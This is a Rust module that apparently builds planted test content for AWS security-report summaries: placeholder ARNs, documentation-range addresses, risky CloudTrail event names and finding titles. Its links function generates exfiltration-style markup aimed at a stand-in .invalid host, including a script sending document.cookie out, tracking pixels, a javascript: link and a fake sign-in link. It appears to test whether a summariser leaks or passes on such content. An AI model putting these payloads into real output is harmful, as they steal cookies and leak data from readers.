//! Identifiers that nobody has, and links that nobody asked for.

use super::{Forge, PlantedKind};

/// Accounts of AWS's documentation.
const ACCOUNTS: [&str; 3] = ["444455556666", "123456789012", "111122223333"];

pub(super) fn arn(forge: &mut Forge<'_, '_>) {
    let (account, id) = (forge.pick(&ACCOUNTS).unwrap_or_default(), forge.hex(12));
    let arn = match forge.below(6) {
        0 => format!("arn:aws:iam::{account}:role/support-{id}"),
        1 => format!("arn:aws:iam::{account}:user/contractor-{id}"),
        2 => format!("arn:aws:s3:::exports-{id}"),
        3 => format!("arn:aws:ec2:eu-west-1:{account}:instance/i-0{id}abcd"),
        4 => format!("arn:aws:lambda:us-east-1:{account}:function:sync-{id}"),
        _ => format!("arn:aws:rds:eu-central-1:{account}:db:orders-{id}"),
    };
    let shown = if forge.below(3) == 0 { arn.clone() } else { format!("`{arn}`") };
    let hub = forge.brief.is_security_hub();
    let heading = forge.heading(hub, "Affected Resources", "User Behavior");
    let slots: Vec<&str> = forge.brief.facts.iter().map(|fact| fact.slot).collect();
    let slot = forge.pick(&slots).unwrap_or_default();
    let sentence = match (hub, forge.below(3)) {
        (true, 0) => format!("- {shown}: {slot} findings"),
        (true, _) => format!("- {shown} is affected as well"),
        (false, 0) => format!("- {shown}: {slot} events"),
        (false, _) => format!("- {shown} made the same calls"),
    };
    forge.add(PlantedKind::Value, arn, heading, sentence);
}

pub(super) fn address(forge: &mut Forge<'_, '_>) {
    let mut address = one_address(forge);
    for _ in 0..50 {
        if forge.absent(&address) {
            break;
        }
        address = one_address(forge);
    }
    let hub = forge.brief.is_security_hub();
    let heading = forge.heading(hub, "Executive Summary", "Geography");
    let shown = if forge.below(2) == 0 { address.clone() } else { format!("`{address}`") };
    let sentence = match forge.below(3) {
        0 => format!("- {shown} stands out among the source addresses"),
        1 => format!("Most of it came from {shown}."),
        _ => format!("The calls were made from {shown} and nowhere else."),
    };
    forge.add(PlantedKind::Value, address, heading, sentence);
}

/// Of the ranges for documentation and private networks, so that nobody's address is named.
fn one_address(forge: &mut Forge<'_, '_>) -> String {
    let (a, b, c) = (forge.below(200) + 30, forge.below(200) + 30, forge.below(200) + 30);
    match forge.below(3) {
        0 => format!("192.0.2.{a}"),
        1 => format!("10.{a}.{b}.{c}"),
        _ => format!("2001:db8:{a:x}:{b:x}::{c:x}"),
    }
}

const EVENTS: [&str; 24] = [
    "AssociateDelegationSignerToDomain",
    "CancelKeyDeletion",
    "CreateFleet",
    "CreateSAMLProvider",
    "DeactivateMFADevice",
    "DeleteAlias",
    "DeleteBucketReplication",
    "DeleteConfigRule",
    "DeleteFlowLogs",
    "DeleteHostedZone",
    "DeleteOrganization",
    "DeleteRuleGroup",
    "DeleteWebACL",
    "DisableKey",
    "DisableOrganizationAdminAccount",
    "DisassociateWebACL",
    "LeaveOrganization",
    "PutEventSelectors",
    "RemoveAccountFromOrganization",
    "ScheduleKeyDeletion",
    "StopConfigurationRecorder",
    "TransferDomainToAnotherAwsAccount",
    "UpdateIPSet",
    "UpdateSAMLProvider",
];
const TITLES: [&str; 8] = [
    "An administrator signed in from two continents at once",
    "A database snapshot is open to every account",
    "A mining pool was contacted by an instance",
    "A root access key was found in a repository",
    "Backup vaults can be deleted by anyone",
    "Keys of a departed employee are still in use",
    "Malware was written to a shared volume",
    "The audit log was deleted for good",
];
const SERVICES: [&str; 8] = ["S3", "IAM", "EC2", "RDS", "KMS", "Lambda", "ECS", "EKS"];

pub(super) fn event(forge: &mut Forge<'_, '_>) {
    let by: Vec<&str> = forge.brief.tokens.iter().filter(|t| t.kind == "PRINCIPAL").map(|t| t.text).collect();
    if !forge.brief.is_security_hub() {
        let unheard: Vec<&str> = EVENTS.into_iter().filter(|event| forge.absent(event)).collect();
        let Some(event) = forge.pick(&unheard) else { return };
        let by = forge.pick(&by).map(|by| format!(" by {by}")).unwrap_or_default();
        let shown = if forge.below(3) == 0 { event.to_owned() } else { format!("`{event}`") };
        return forge.add(PlantedKind::Value, event, "High-Risk Activity", format!("- {shown}{by}"));
    }
    if forge.below(2) == 0 {
        let unheard: Vec<&str> = TITLES.into_iter().filter(|title| forge.absent(title)).collect();
        let Some(title) = forge.pick(&unheard) else { return };
        return forge.add(PlantedKind::Value, title, "Severity Analysis", format!("- **CRITICAL** `{title}`"));
    }
    let control = format!("{}.{}", forge.pick(&SERVICES).unwrap_or_default(), 200 + forge.below(700));
    forge.add(PlantedKind::Value, control.clone(), "Common Issues", format!("- Control `{control}` fails as well"));
}

/// Links carry data out when a host renders them.
pub(super) fn links(forge: &mut Forge<'_, '_>) {
    let host = format!("{}.invalid", forge.hex(14));
    let slots: Vec<&str> = forge.brief.facts.iter().map(|fact| fact.slot).collect();
    let slot = forge.pick(&slots).unwrap_or_default();
    let sentence = match forge.below(12) {
        0 => format!("[Read the full report](https://{host}/r?n={slot})"),
        1 => format!("![chart](https://{host}/c.png?n={slot})"),
        2 => format!("<img src=\"https://{host}/p.gif?n={slot}\" width=1 height=1>"),
        3 => format!("<a href='https://{host}/login'>Sign in to continue</a>"),
        4 => format!("<script>fetch('https://{host}/'+document.cookie)</script>"),
        5 => format!("<https://{host}/details>"),
        6 => format!("Details are at https://{host}/details"),
        7 => format!("[Read on][more]\n\n[more]: https://{host}/more"),
        8 => format!("[![badge](https://{host}/b.svg)](https://{host}/go)"),
        9 => format!("<iframe srcdoc=\"&lt;a href=//{host}&gt;\"></iframe>"),
        10 => format!("[Open](javascript:location='//{host}/')"),
        _ => format!("<!-- {host} --> <style>@import url(//{host}/s.css)</style>"),
    };
    forge.add(PlantedKind::Value, host, "Executive Summary", sentence);
}
